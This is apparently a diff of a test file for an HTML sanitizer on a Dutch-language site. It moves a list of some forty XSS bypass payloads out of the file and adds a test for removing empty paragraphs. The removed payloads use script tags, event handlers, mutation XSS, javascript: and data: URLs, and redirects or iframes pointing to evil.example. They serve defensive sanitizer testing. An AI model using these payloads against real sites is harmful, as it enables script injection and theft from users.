@@ -12,6 +12,7 @@ from netwerk.templatetags.netwerk import rich
 from practices.models import Lesson, Term
 from stories.markup import Markup
 from tests.factories import make_lesson, make_story, make_text
+from tests.netwerk.bypasses import BYPASSES
 
 ATTRIBUTES = {"a": {"href", "rel"}, "ol": {"start"}, "abbr": {"title"}}
 # What the page adds: a wrapper with a permalink round each heading, and links to the glossary.
@@ -23,52 +24,6 @@ ADDED_ATTRIBUTES = {
     "h3": {"id"},
 }
 SCHEMES = ("http:", "https:", "mailto:")
-
-# Known ways round other cleaners: mutation XSS, namespace confusion, odd schemes, odd syntax.
-BYPASSES = [
-    "<script>alert(1)</script>",
-    "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "<img src=x onerror=alert(1)>",
-    "<svg/onload=alert(1)>",
-    "<svg><p><style><g title='</style><img src=x onerror=alert(1)>'>",
-    "<svg><desc><noscript></desc><img src=x onerror=alert(1)>",
-    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
-    "<math><mi//xlink:href='data:x,<script>alert(4)</script>'>",
-    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
-    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'></textarea>",
-    "<title><p title='</title><img src=x onerror=alert(1)>'></title>",
-    "<template><script>alert(1)</script></template>",
-    "<abbr title='<h2><img src=x onerror=alert(1)></h2>'>a</abbr>",
-    "<h2><abbr title='</h2><img src=x onerror=alert(1)>'>a</abbr></h2>",
-    "<abbr title='x&quot; onmouseover=&quot;alert(1)'>a</abbr>",
-    "<a href='https://a.nl/\"onclick=alert(1) b=\"'>a</a>",
-    "<a href=javascript:alert(1)>a</a>",
-    "<a href=' &#14; javascript:alert(1)'>a</a>",
-    "<a href='java&#9;script:alert(1)'>a</a>",
-    "<a href='javascript&colon;alert(1)'>a</a>",
-    "<a href='JaVaScRiPt:alert(1)'>a</a>",
-    "<a href='data:text/html,<script>alert(1)</script>'>a</a>",
-    "<a href='vbscript:alert(1)'>a</a>",
-    "<a href='feed:javascript:alert(1)'>a</a>",
-    "<iframe src=https://evil.example></iframe>",
-    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-    "<object data=javascript:alert(1)><embed src=javascript:alert(1)>",
-    "<base href=https://evil.example/><link rel=stylesheet href=//evil.example>",
-    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
-    "<p style='position:fixed;inset:0'>a</p><style>*{display:none}</style>",
-    "<p onclick=alert(1) id=inhoud class=menu name=body>a</p>",
-    "<a href=https://a.nl target=_blank rel=opener ping=https://evil.example>a</a>",
-    "<form action=https://evil.example><input name=q><button formaction=javascript:alert(1)>a",
-    "<video><source onerror=alert(1)></video><details open ontoggle=alert(1)>",
-    "<!--><img src=x onerror=alert(1)>--><!--[if IE]><script>alert(1)</script><![endif]-->",
-    "<![CDATA[<script>alert(1)</script>]]><?xml-stylesheet href='javascript:alert(1)'?>",
-    "<p><b><i><h2><table><td><a href=javascript:alert(1)><p></b>",
-    "</p></div></main></body><script>alert(1)</script>",
-    "&lt;script&gt;alert(1)&lt;/script&gt;&amp;lt;img src=x onerror=alert(1)&amp;gt;",
-    "<p>\0<scr\0ipt>alert(1)</script>",
-    "<xss:script xmlns:xss='http://www.w3.org/1999/xhtml'>alert(1)</xss:script>",
-]
 
 
 def forbidden(html: str, tags=frozenset(), attributes=None) -> list[str]:
@@ -143,6 +98,12 @@ def test_glossary_links_a_term_with_signs():
 )
 def test_empty_editor_leaves_nothing(html):
     assert clean(html) == ""
+
+
+def test_empty_paragraphs_go():
+    assert (
+        clean("<p>Een</p><p></p><p>&nbsp;<br></p>\n<p>twee<br>drie</p>") == "<p>Een</p>\n<p>twee<br>drie</p>"
+    )
 
 
 def test_no_text_that_runs_is_left_as_text():
